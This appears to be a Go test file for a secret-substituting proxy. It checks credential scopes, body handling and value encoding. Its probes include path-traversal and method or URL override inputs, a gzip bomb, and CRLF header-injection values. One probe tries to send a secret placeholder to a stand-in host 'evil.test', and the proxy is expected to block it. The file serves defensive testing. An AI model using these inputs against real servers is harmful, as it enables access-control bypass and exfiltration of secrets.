package attack

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"io"
	"net/url"
	"strings"

	"github.com/cutoutdev/cutout/internal/policy"
	"github.com/cutoutdev/cutout/internal/secret"
	"github.com/cutoutdev/cutout/internal/testnet"
)

// B13, C10, D1, D7, D8: what a request may be, and how a value stands in it.
var sectionRequest = join(scopes(), bodies(), values(), []probe{
	{entry: "D7", name: "a credential of the guest's own", change: exclusive, run: ask("GET", "/echo", "good.test", "Authorization", "Bearer mine"), want: forbidden(policy.ForeignCredential)},
	{entry: "D7", name: "one beside the placeholder", change: exclusive, run: ask("GET", "/echo", "good.test", "Authorization", bearer, "X-Api-Key", "mine"), want: forbidden(policy.ForeignCredential)},
	{entry: "D7", name: "one in the query", change: exclusive, run: ask("GET", "/echo?access_token=mine", "good.test"), want: forbidden(policy.ForeignCredential)},
	{entry: "D7", name: "the placeholder alone", change: exclusive, run: echoed("/echo"), want: substituted},
})

func join(all ...[]probe) []probe {
	var out []probe
	for _, list := range all {
		out = append(out, list...)
	}
	return out
}

func exclusive(b *boundary) { b.Secret.Exclusive = true }

// scopes are B13: the secret is for GET /repos/** alone, however a server
// reads the path.
func scopes() []probe {
	only := func(b *boundary) { b.Secret.Scopes = []secret.Scope{{Method: "GET", Path: "/repos/**"}} }
	out := []probe{{
		entry: "B13", name: "in scope, byte for byte", change: only, want: want{status: []int{404}, value: true},
		run: ask("GET", "/repos/a%20b/%7Ec", "good.test", "Authorization", bearer),
		check: func(b *boundary) error {
			if !strings.Contains(b.Received(), "/repos/a%20b/%7Ec") {
				return fmt.Errorf("the path was changed: %s", b.Received())
			}
			return nil
		},
	}}
	for _, x := range []struct{ name, method, path, field string }{
		{"another method", "POST", "/repos/a", ""},
		{"another path", "GET", "/gists", ""},
		{"mixed case", "GET", "/Repos/a", ""},
		{"..", "GET", "/repos/../gists", ""},
		{"%2e%2e", "GET", "/repos/%2e%2e/gists", ""},
		{"//", "GET", "//gists/repos/a", ""},
		{"// and ..", "GET", "/repos//../../gists", ""},
		{"a backslash", "GET", `/repos/..\gists`, ""},
		{"%2f", "GET", "/repos/..%2fgists", ""},
		{";", "GET", "/repos/..;/gists", ""},
		{"%00", "GET", "/repos%00/../gists", ""},
		{"an override of the method", "GET", "/repos/a", "X-HTTP-Method-Override: DELETE"},
		{"an override of the URL", "GET", "/repos/a", "X-Original-URL: /gists"},
		{"a rewritten URL", "GET", "/repos/a", "X-Rewrite-URL: /gists"},
	} {
		fields := []string{"Authorization", bearer}
		if name, value, ok := strings.Cut(x.field, ": "); ok {
			fields = append(fields, name, value)
		}
		out = append(out, probe{
			entry: "B13", name: "out of scope by " + x.name, change: only,
			run: ask(x.method, x.path, "good.test", fields...), want: forbidden(policy.OutOfScope),
		})
	}
	return out
}

// inBodies gives the secret the body surface.
func inBodies(b *boundary) {
	b.Secret.Surfaces = &secret.Surfaces{Header: true, Body: []secret.BodyPart{{}}}
}

// post is a probe of a request with a body to good.test.
func post(body string, fields ...string) func(*boundary) outcome {
	return func(b *boundary) outcome {
		c, err := b.Secure(target{})
		if err != nil {
			return outcome{err: err}
		}
		defer c.Close()
		return b.send(c, "POST", "/echo", "good.test", body, fields...)
	}
}

func zipped(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	io.WriteString(z, s)
	z.Close()
	return b.String()
}

// bodies are D8 and C10: exact, or refused, or visibly incomplete.
func bodies() []probe {
	digest := sha256.Sum256([]byte(P))
	long := strings.Repeat("x", 3<<20)
	out := []probe{
		{
			entry: "D8", name: "fixed length", change: inBodies, run: post(`{"key":"`+P+`"}`, "Content-Type", "application/json"), want: substituted,
			check: whole(`{"key":"` + V + `"}`),
		},
		{entry: "D8", name: "3 MiB of fixed length", only: "h1", change: inBodies, run: post(long+P, "Content-Type", "text/plain"), want: want{status: []int{200}}, check: whole(long + V)},
		{
			entry: "C10", name: "gzip goes on uncompressed", change: inBodies,
			run:  post(zipped("key="+P), "Content-Type", "text/plain", "Content-Encoding", "gzip"),
			want: substituted, check: whole("key=" + V),
		},
		{
			entry: "D8", name: "a gzip bomb", change: inBodies,
			run:  post(zipped(strings.Repeat("x", 96<<20)), "Content-Type", "text/plain", "Content-Encoding", "gzip"),
			want: want{status: []int{400, 403, 413, 503}}, check: nothingWhole,
		},
		{
			entry: "D8", name: "a coding nobody knows", change: inBodies,
			run: post(P, "Content-Type", "text/plain", "Content-Encoding", "x-own"), want: forbidden(policy.UnknownCoding),
		},
		{entry: "D8", name: "protobuf", change: inBodies, run: post("\x0a\x0c"+P, "Content-Type", "application/x-protobuf"), want: forbidden(policy.NeedsEqualLength)},
		{entry: "D8", name: "a git pack", change: inBodies, run: post("PACK"+P, "Content-Type", "application/x-git-receive-pack-request"), want: forbidden(policy.NeedsEqualLength)},
		{
			entry: "D8", name: "Content-Digest", change: inBodies, want: forbidden(policy.BodyIsSigned),
			run: post(P, "Content-Type", "text/plain", "Content-Digest", "sha-256=:"+base64.StdEncoding.EncodeToString(digest[:])+":"),
		},
		{
			entry: "D8", name: "x-amz-content-sha256", change: inBodies, want: forbidden(policy.BodyIsSigned),
			run: post(P, "Content-Type", "text/plain", "X-Amz-Content-Sha256", fmt.Sprintf("%x", digest)),
		},
		{
			entry: "D8", name: "a body shorter than its length", change: inBodies, only: "h2", want: want{status: []int{0, 400}}, check: nothingWhole,
			run: func(b *boundary) outcome {
				c, err := b.Secure(target{})
				if err != nil {
					return outcome{err: err}
				}
				defer c.Close()
				f := b.frames(c)
				f.Head(1, false, ":method", "POST", ":scheme", "https", ":path", "/echo", ":authority", "good.test", "content-length", "1000", "content-type", "text/plain")
				f.WriteData(1, true, []byte(P))
				return f.outcome(1)
			},
		},
		{
			entry: "D8", name: "a placeholder for elsewhere, blocked in a body", want: want{status: []int{0, 403}, reason: policy.HostNotAllowed}, check: nothingWhole,
			change: func(b *boundary) {
				all(b)
				b.Config.OnViolation = secret.Violation{Action: secret.Block}
			},
			run: func(b *boundary) outcome {
				c, err := b.Secure(target{Name: "evil.test"})
				if err != nil {
					return outcome{err: err}
				}
				defer c.Close()
				return b.send(c, "POST", "/upload", "evil.test", strings.Repeat("x", 40<<10)+P)
			},
		},
	}
	return out
}

// whole checks that the one request that arrived has exactly the body.
func whole(body string) func(*boundary) error {
	return func(b *boundary) error {
		for _, r := range b.Good.Requests() {
			if sum := sha256.Sum256([]byte(body)); r.BodySize == int64(len(body)) && r.BodyErr == "" && r.BodySHA256 == fmt.Sprintf("%x", sum) {
				return nil
			}
		}
		return fmt.Errorf("no request has the body of %d bytes: %.300s", len(body), b.Received())
	}
}

// nothingWhole checks that no upstream took a message for complete.
func nothingWhole(b *boundary) error {
	for _, u := range []*testnet.Upstream{b.Good, b.Evil} {
		for _, r := range u.Requests() {
			if r.BodyErr == "" {
				return fmt.Errorf("an upstream got a whole message of %d bytes", r.BodySize)
			}
		}
	}
	return nil
}

// values are D1: values with bytes that mean something where they land.
func values() []probe {
	var out []probe
	for name, v := range map[string]string{
		"quotes and spaces": `one "two" 'three' four`,
		"marks of a query":  "a&b=c#d?e/f+g%h;i",
		"not ASCII":         "schlüssel-für-das-café",
		"64 KB":             strings.Repeat("0123456789abcdef", 4<<10),
	} {
		holds := func(text func(string) string) func(*boundary) error {
			return func(b *boundary) error {
				if got := b.Received(); !strings.Contains(got, text(v)) {
					return fmt.Errorf("the upstream got %.300q", got)
				}
				return nil
			}
		}
		load := func(b *boundary) {
			b.Secret.Value = b.Value(v)
			b.Secret.Surfaces = &secret.Surfaces{Header: true, Query: true}
		}
		if len(v) < 1<<10 {
			out = append(out, probe{
				entry: "D1", name: name + ", in the query", change: load, run: ask("GET", "/echo?key="+P+"&x=1", "good.test"),
				want: want{status: []int{200}}, check: holds(func(v string) string {
					return "key=" + strings.ReplaceAll(url.QueryEscape(v), "+", "%20") + "&x=1"
				}),
			}, probe{
				entry: "D1", name: name + ", in a header", change: load, run: ask("GET", "/echo", "good.test", "X-Api-Key", P),
				want: want{status: []int{200}}, check: holds(func(v string) string { return v }),
			})
		} else {
			out = append(out, probe{
				entry: "D1", name: name + ", in a header", change: load, run: ask("GET", "/echo", "good.test", "X-Api-Key", P),
				want: want{status: []int{0, 200, 431, 503}}, // the upstream says whether that is too long
			})
		}
	}
	for name, v := range map[string]string{"CR LF": "abcdefgh\r\nX: y", "NUL": "abcdefgh\x00i"} {
		out = append(out, probe{entry: "D1", name: name + ", refused at load", want: unanswered, run: func(b *boundary) outcome {
			b.InProcess(atLoad)
			if _, err := testnet.Value(b.Store, v); err != nil {
				return outcome{err: err}
			}
			return outcome{status: 200}
		}})
	}
	return out
}
